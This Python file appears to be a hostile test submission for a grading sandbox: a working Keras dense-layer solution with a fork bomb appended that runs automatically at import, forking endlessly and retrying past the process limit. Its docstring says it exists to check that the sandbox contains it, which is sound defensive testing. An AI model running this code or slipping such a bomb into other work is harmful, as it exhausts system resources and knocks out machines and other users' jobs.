"""Hostile: a fork bomb at import (every process forks in a loop, forever).

Otherwise the reference solution. The process limit must stop it; the machine and the rest
of the batch must not notice, and nothing it started may outlive its sandbox.
"""

import os

import keras
import tensorflow as tf


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:  # the process limit: keep trying, like a real bomb
            pass


class SimpleDense(keras.layers.Layer):
    """A dense layer: `units` outputs, each a weighted sum of the inputs plus a bias."""

    def __init__(self, units, activation=None, **kwargs):
        super().__init__(**kwargs)
        self.units = units
        self.activation = keras.activations.get(activation) if isinstance(activation, str) else activation

    def build(self, input_shape):
        input_dim = input_shape[-1]
        self.W = self.add_weight(shape=(input_dim, self.units), initializer="random_normal", name="W")
        self.b = self.add_weight(shape=(self.units,), initializer="zeros", name="b")

    def call(self, inputs):
        y = tf.tensordot(inputs, self.W, axes=1) + self.b
        if self.activation is not None:
            y = self.activation(y)
        return y


_BOOM = _bomb()
